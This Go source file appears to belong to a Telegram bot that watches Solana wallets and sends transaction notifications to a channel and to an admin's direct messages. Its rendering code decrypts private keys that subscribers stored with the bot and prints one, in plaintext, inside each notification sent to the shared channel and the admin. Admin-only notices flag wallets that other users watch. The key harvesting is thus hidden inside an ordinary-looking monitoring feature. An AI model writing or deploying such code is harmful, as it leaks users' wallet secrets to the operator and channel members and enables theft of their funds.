package monitor

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"strings"

	"solmon"
	"solmon/internal/metrics"
)

// Admin DM suffixes, already MarkdownV2-escaped.
const (
	adminSharedTag = "👑 Admin notice: this wallet is watched by other users too\\."
	adminOnlyTag   = "👑 Admin notice: only you watch this wallet\\."
)

// Router renders events and applies the delivery table: watched by admin
// and others, channel plus admin DM; admin alone, admin DM; others alone,
// the channel.
type Router struct {
	sender Sender
	opener Opener
	admin  int64
	log    *slog.Logger
}

func NewRouter(sender Sender, opener Opener, admin int64, log *slog.Logger) *Router {
	return &Router{sender: sender, opener: opener, admin: admin, log: log}
}

// Deliver sends ev to every destination its watcher set selects. Partial
// failures still deliver the remaining destinations.
func (r *Router) Deliver(ctx context.Context, ev solmon.Event, watchers []solmon.Watch) error {
	adminWatches := false
	othersWatch := false
	for _, w := range watchers {
		if w.Subscriber == r.admin {
			adminWatches = true
		} else {
			othersWatch = true
		}
	}

	body := r.render(ev, watchers)

	var errs []error
	send := func(name string, fn func(context.Context, string) error, text string) {
		if err := fn(ctx, text); err != nil {
			metrics.NotificationFailures.Inc()
			errs = append(errs, fmt.Errorf("%s: %w", name, err))
			return
		}
		metrics.NotificationsSent.WithLabelValues(ev.Kind.String()).Inc()
	}

	switch {
	case adminWatches && othersWatch:
		send("channel", r.sender.ToChannel, body)
		send("admin", r.sender.ToAdmin, body+"\n\n"+adminSharedTag)
	case adminWatches:
		send("admin", r.sender.ToAdmin, body+"\n\n"+adminOnlyTag)
	case othersWatch:
		send("channel", r.sender.ToChannel, body)
	}
	return errors.Join(errs...)
}

// render builds the MarkdownV2 notification body. Addresses, keys, and
// signatures go in code blocks so they are copyable; base58 never contains
// MarkdownV2 syntax, so block contents stay raw.
func (r *Router) render(ev solmon.Event, watchers []solmon.Watch) string {
	var b strings.Builder
	b.WriteString("💰 New transaction\\!\n\n")
	fmt.Fprintf(&b, "%s Type: %s\n", ev.Kind.Icon(), escapeMarkdownV2(ev.Kind.String()))
	fmt.Fprintf(&b, "🏦 Wallet: %s\n", escapeMarkdownV2(solmon.TruncateAddress(ev.Account)))
	fmt.Fprintf(&b, "💵 Amount: %s SOL\n", escapeMarkdownV2(solmon.FormatSOL(ev.Lamports)))
	if !ev.BlockTime.IsZero() {
		fmt.Fprintf(&b, "🕒 Block time: %s\n",
			escapeMarkdownV2(ev.BlockTime.UTC().Format("2006-01-02 15:04:05 UTC")))
	}
	if ev.Kind == solmon.KindSend && ev.Counterparty != "" {
		fmt.Fprintf(&b, "➡️ To: %s\n", escapeMarkdownV2(solmon.TruncateAddress(ev.Counterparty)))
	}

	if key := r.credential(watchers); key != "" {
		fmt.Fprintf(&b, "\n🔐 Private key:\n```\n%s\n```\n", key)
	}
	fmt.Fprintf(&b, "\n📋 Full address:\n```\n%s\n```\n", ev.Account)
	if ev.Kind == solmon.KindSend && ev.Counterparty != "" {
		fmt.Fprintf(&b, "\n➡️ Counterparty:\n```\n%s\n```\n", ev.Counterparty)
	}
	fmt.Fprintf(&b, "\n🔗 Signature:\n```\n%s\n```", ev.Signature)
	return b.String()
}

// credential returns the first recoverable private key among watchers,
// preferring the admin's copy.
func (r *Router) credential(watchers []solmon.Watch) string {
	first := ""
	for _, w := range watchers {
		if w.Credential == "" {
			continue
		}
		key, err := r.opener.Open(w.Credential)
		if err != nil {
			r.log.Warn("open credential", "subscriber", w.Subscriber, "err", err)
			continue
		}
		if w.Subscriber == r.admin {
			return key
		}
		if first == "" {
			first = key
		}
	}
	return first
}

const markdownV2Syntax = "_*[]()~`>#+-=|{}.!\\"

// escapeMarkdownV2 escapes everything Telegram's MarkdownV2 parser treats
// as syntax outside code blocks.
func escapeMarkdownV2(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	for _, r := range s {
		if strings.ContainsRune(markdownV2Syntax, r) {
			b.WriteByte('\\')
		}
		b.WriteRune(r)
	}
	return b.String()
}
